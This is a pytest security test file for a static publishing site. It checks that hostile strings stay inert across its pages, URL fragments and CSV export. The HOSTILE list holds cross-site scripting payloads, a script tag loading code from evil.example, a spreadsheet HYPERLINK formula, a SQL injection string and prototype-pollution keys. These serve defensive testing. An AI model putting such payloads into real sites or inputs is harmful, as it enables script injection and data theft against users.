"""Hostile text is shown as text and does nothing."""

import csv
import io

import pytest

from flows.publish.site.markup import POLICY
from tests.site.releases import Release, write

HOSTILE = [
    '<img src=x onerror="window.harmed=1">',
    "<script>window.harmed=1</script>",
    "</script><script src=https://evil.example/x.js></script>",
    '"><svg onload=window.harmed=1>',
    "&lt;b&gt;&#x2026;&amp;",
    "<iframe srcdoc='<script>parent.harmed=1</script>'>",
    "javascript:window.harmed=1",
    '=HYPERLINK("https://evil.example","click")',
    "'); DROP TABLE quotes; --",
    "${window.harmed=1}`",
    "constructor",
    "__proto__",
    "\u202e倒着\u2066\u200f",
    "\x1b[31m\x07\x00",
    "\u2028\u2029",
    "𠮷𬭊😀",
]
SEEN = {"\u202e": "[U+202E]", "\x1b": "[U+001B]", "\u2028": "[U+2028]"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    release = Release()
    for number, text in enumerate(HOSTILE):
        release.document(
            number,
            quotes=2,
            words=text,
            name=text,
            publisher=text,
            url=text if number % 2 else f"https://example.org/?{text}",
            rights=text,
            file_name=text,
        )
    for row in release.rows["figures"]:
        row["unit"] = HOSTILE[int(row["figure_id"][1:], 16)]
    return write(release, tmp_path_factory.mktemp("hostile"))


def unharmed(page):
    assert page.evaluate("window.harmed") is None
    assert page.evaluate("document.querySelectorAll('main img, main iframe, main svg, main script').length") == 0
    assert page.evaluate("[...document.links].every(link => /^(file|https?|blob):/.test(link.protocol))")


def shown(text):
    for character, sign in (
        *SEEN.items(), ("\u2066", "[U+2066]"), ("\u200f", "[U+200F]"), ("\x07", "[U+0007]"),
        ("\x00", "[U+0000]"), ("\u2029", "[U+2029]"),
    ):  # fmt: skip
        text = text.replace(character, sign)
    return text


@pytest.mark.parametrize("table", ["quotes", "figures", "sectors", "projects", "documents"])
def test_tables(visits, hostile, table):
    visit = visits(hostile)
    page = visit.go(f"{table}.html")
    unharmed(page)
    text = page.locator("#rows").evaluate("element => element.textContent")
    if table in ("projects", "documents"):
        for given in HOSTILE:
            assert shown(given) in text
    page.fill("#search", "<img src=x onerror")
    page.wait_for_timeout(50)
    unharmed(page)
    page.locator("#rows thead th").first.click()
    unharmed(page)


def test_rows_and_documents(visits, hostile):
    visit = visits(hostile)
    for number, given in enumerate(HOSTILE):
        page = visit.go(f"projects.html#row=p{number:016x}")
        assert page.locator("dialog h2").text_content() == f"{shown(given)}储能电站"
        assert shown(given) in page.locator("dialog .context").text_content()
        assert page.locator("dialog .context .mark").text_content() == f"{shown(given)}储能电站"
        unharmed(page)
        page = visit.go(f"document.html#id=d{number:012x}")
        assert shown(given) in page.locator("h1").text_content()
        assert shown(given) in page.locator("article .text").text_content()
        unharmed(page)


def test_overview_and_quality(visits, hostile):
    for name in ("index.html", "quality.html"):
        page = visits(hostile).go(name)
        unharmed(page)


def test_hostile_address(visits, hostile):
    visit = visits(hostile)
    for table in ("quotes", "figures"):
        page = visit.go(f"{table}.html#q=<img src=x onerror=window.harmed=1>&mode=<b>&speaker_id=<svg onload=alert(1)>")
        unharmed(page)
    page = visit.go("document.html#id=<img src=x onerror=window.harmed=1>")
    unharmed(page)


def test_policy_stops_what_would_get_in(visits, hostile):
    """Even a defect of the pages could not run or load anything: neither markup nor scripts from strings."""
    page = visits(hostile).go("quotes.html")
    blocked = """async source => {
      const frame = document.createElement('div');
      try { frame.innerHTML = source; document.body.append(frame); return 'let in'; } catch { return 'refused'; }
    }"""
    assert page.evaluate(blocked, HOSTILE[0]) == "refused"
    script = """address => {
      const script = document.createElement('script');
      try { script.src = address; document.head.append(script); return 'let in'; } catch { return 'refused'; }
    }"""
    assert page.evaluate(script, "https://evil.example/x.js") == "refused"
    assert "unsafe" not in POLICY
    assert "default-src 'none'" in POLICY


def test_csv_formulas_are_text(visits, hostile):
    page = visits(hostile).go("projects.html")
    with page.expect_download() as waiting:
        page.click("#csv")
    data = waiting.value.path().read_text(encoding="utf-8-sig")
    told = [row["project_name"] for row in csv.DictReader(io.StringIO(data, newline=""))]
    assert "'" + HOSTILE[7] + "储能电站" in told
    assert not any(
        cell.startswith(("=", "+", "@")) for row in csv.reader(io.StringIO(data, newline="")) for cell in row
    )
